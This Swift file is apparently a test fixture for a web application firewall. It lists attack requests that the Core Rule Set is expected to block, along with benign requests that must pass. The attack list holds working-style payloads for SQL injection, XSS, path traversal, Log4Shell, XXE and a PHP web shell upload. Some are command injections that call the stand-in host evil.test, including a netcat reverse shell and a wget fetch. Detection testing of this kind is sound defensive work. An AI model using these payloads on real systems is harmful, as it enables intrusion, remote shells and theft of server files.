extension SampleRequest {
    /// What the Core Rule Set is for, class by class.
    static let attacks: [SampleRequest] = [
        // SQL injection
        .get("/?id=1'%20OR%20'1'='1"), .get("/?id=1%20OR%201=1--"),
        .get("/?id=1%20UNION%20SELECT%20a,b%20FROM%20users"),
        .get("/?id=1;DROP%20TABLE%20users"), .get("/?id=1%20AND%20SLEEP(5)"),
        .get("/?id=1'%20AND%20BENCHMARK(1000000,MD5(1))--"),
        .get("/?q='%20OR%201%20GROUP%20BY%20x%20HAVING%201=1--"),
        .get("/?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))"),
        .get("/?id=1;WAITFOR%20DELAY%20'0:0:5'"), .get("/?id=(SELECT%20COUNT(*)%20FROM%20information_schema.tables)"),
        .get("/?id=1%20INTO%20OUTFILE%20'/tmp/x'"), .get("/?id=0x31%20UNION%20ALL%20SELECT%20@@version"),
        .get("/?id=1'||'1'='1"), .get("/?id=admin'/*"), .get("/?user=%22%20or%20%22%22=%22"),
        .form("user=admin'--&password=x"), .form("id=-1+union+select+1,2,3"), .form("q=1'+and+pg_sleep(10)--"),
        .json(#"{"user": "admin' OR 1=1--"}"#), .json(#"{"filter": {"$where": "1; DROP TABLE a"}}"#),
        .header("Cookie", "session=1' OR '1'='1"), .header("Referer", "http://a.test/?q=1' UNION SELECT 1"),
        .get("/?id=1%27%20having%201=1"), .get("/?sort=name;exec%20xp_cmdshell('dir')"),
        .get("/?id=convert(int,@@version)"), .get("/?a=char(97)%2Bchar(98)%20or%201=1"),
        // Cross-site scripting
        .get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), .get("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        .get("/?q=javascript:alert(document.cookie)"), .get("/?q=%3Csvg/onload=alert(1)%3E"),
        .get("/?q=%3Ciframe%20src=javascript:alert(1)%3E"), .get("/?q=%3Cbody%20onload=alert(1)%3E"),
        .get("/?q=%22%3E%3Ca%20href=%22javascript:x%22%3E"), .get("/?q=%3Cobject%20data=x%3E"),
        .get("/?q=%3Cstyle%3E@import'x'%3C/style%3E"), .get("/?q=expression(alert(1))"), .get("/?q=vbscript:msgbox(1)"),
        .get("/?q=%3Cmeta%20http-equiv=refresh%3E"), .form("comment=<script>fetch('//evil.test')</script>"),
        .json(#"{"comment": "<img src=x onerror=alert(1)>"}"#),
        .header("Referer", "http://a.test/<script>alert(1)</script>"),
        .get("/?q=%3Cinput%20onfocus=alert(1)%20autofocus%3E"), .get("/?q=data:text/html;base64,PHNjcmlwdD4="),
        .get("/?q=%3Cembed%20src=//evil.test/x.swf%3E"), .get("/?q=document.cookie%3D1;eval(name)"),
        // Files of the server and of others
        .get("/?file=../../../../etc/passwd"), .get("/?file=..%2f..%2f..%2fetc%2fshadow"),
        .get("/?file=/etc/passwd%00.png"),
        .get("/?file=....//....//etc/passwd"), .get("/?file=..%255c..%255cwindows%255cwin.ini"), .get("/.git/config"),
        .get("/.env"), .get("/wp-config.php.bak"), .get("/?file=file:///etc/hosts"), .get("/?p=/proc/self/environ"),
        .get("/?page=http://203.0.113.7/shell.txt"), .get("/?page=https://evil.test/x.php?"),
        .get("/?include=ftp://evil.test/x"), .form("path=../../boot.ini"), .get("/backup/dump.sql"),
        // Commands
        .get("/?cmd=;cat%20/etc/passwd"), .get("/?cmd=%7Cid"), .get("/?cmd=%60whoami%60"),
        .get("/?cmd=$(curl%20evil.test)"),
        .get("/?x=;wget%20http://evil.test/a.sh"), .get("/?x=%26%26%20ping%20-c%201%20evil.test"),
        .get("/?x=cmd.exe%20/c%20dir"), .get("/?x=powershell%20-enc%20AAAA"), .get("/?x=/bin/bash%20-i"),
        .form("host=127.0.0.1;nc -e /bin/sh evil.test 4444"), .header("User-Agent", "() { :; }; /bin/bash -c id"),
        .get("/?x=Invoke-Expression"), .get("/?x=python%20-c%20'import%20os'"),
        // PHP, Java, Node
        .get("/?x=%3C?php%20system('id');?%3E"), .get("/?x=phpinfo()"), .get("/?x=php://input"),
        .get("/?x=O:8:%22stdClass%22:0:%7B%7D"), .get("/?x=$_GET%5B'a'%5D"), .get("/?x=base64_decode('eA==')"),
        .header("X-Api-Version", "${jndi:ldap://evil.test/a}"), .get("/?x=$%7Bjndi:rmi://evil.test/a%7D"),
        .get("/?x=java.lang.Runtime.getRuntime().exec('id')"), .get("/?class.module.classLoader.resources=1"),
        .get("/?x=require('child_process').exec('id')"), .get("/?x=_$$ND_FUNC$$_function()"),
        .xml("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
        // Sessions, the protocol, scanners
        .get("/?PHPSESSID=abc"), .get("/?q=%0d%0aSet-Cookie:%20a=b"), .get("/?q=a%0d%0aHTTP/1.1%20200%20OK"),
        .method("TRACE"), .method("PUT"), .method("DELETE"), .method("CONNECTED"),
        .header("User-Agent", "sqlmap/1.7"), .header("User-Agent", "Nikto/2.5"), .header("User-Agent", "nessus"),
        .header("Content-Type", "application/x-evil"), .header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"),
        .get("/?a=%u0041%GG"), .get("/?a=%00"), .header("X-Filename", "a.php"), .header("Accept", ""),
        .header("User-Agent", ""), .get("/a.bak"), .get("/?" + String(repeating: "a=1&", count: 300)),
        .json(#"{"broken": "#), .header("Content-Length", "abc"), .header("Proxy-Connection", "keep-alive"),
        .header("Proxy", "http://evil.test"), .header("Content-Encoding", "gzip"), .form("a=%"),
        SampleRequest(
            method: "POST", target: "/upload",
            headers: [("Content-Type", "multipart/form-data; boundary=x")],
            body:
                "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET[1]);\r\n--x--\r\n"
        ),
        SampleRequest(
            method: "POST", target: "/upload",
            headers: [("Content-Type", "multipart/form-data; boundary=x")],
            body: "--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n../../etc/passwd\r\n--y--\r\n"),
    ]

    /// What must pass.
    static let benign: [SampleRequest] = [
        .get("/"), .get("/index.html"), .get("/products?page=2&sort=price"), .get("/search?q=red+shoes"),
        .get("/search?q=caf%C3%A9"), .get("/users/42/orders/7"), .get("/static/app.js?v=1.2.3"),
        .get("/?utm_source=mail"),
        .get("/blog/2024/05/on-selecting-a-union"), .get("/api/v1/items?limit=10&offset=20"), .get("/?date=2024-01-31"),
        .get("/?email=a.b@example.com"), .get("/?name=O'Brien"), .get("/?price=%3E100"), .get("/favicon.ico"),
        .form("name=Ada&age=36"), .form("comment=A+nice+day%2C+isn%27t+it%3F"), .form("text=select+one+of+the+options"),
        .json(#"{"name": "Ada", "tags": ["a", "b"], "n": 1.5}"#), .json("[]"),
        .xml("<order><item id=\"1\">pen</item></order>"),
        .method("HEAD"), .method("OPTIONS"), .header("Cookie", "session=0123456789abcdef; theme=dark"),
        .header("Referer", "http://app.test/search?q=shoes"), .header("Accept", "*/*"),
        .header("If-None-Match", "\"abc\""),
        .header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc"),
        SampleRequest(
            method: "POST", target: "/upload", headers: [("Content-Type", "multipart/form-data; boundary=x")],
            body:
                "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--x--\r\n"
        ),
    ]
}
